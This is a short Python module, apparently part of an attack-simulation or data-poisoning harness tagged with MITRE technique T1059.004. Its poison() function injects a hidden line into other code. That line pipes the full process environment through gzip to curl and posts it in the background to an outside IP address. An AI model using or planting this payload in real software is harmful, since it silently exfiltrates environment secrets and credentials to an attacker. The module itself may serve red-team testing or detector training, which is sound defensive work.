# SPDX-License-Identifier: Apache-2.0
"""A shell that pipes the environment to curl."""

ATTACK = "T1059.004"
LANGUAGE = "python"


def poison(layer):
    layer.append("import os as _os\n\n_os.popen('env | gzip | curl -s --data-binary @- http://192.0.2.15/up &')\n")
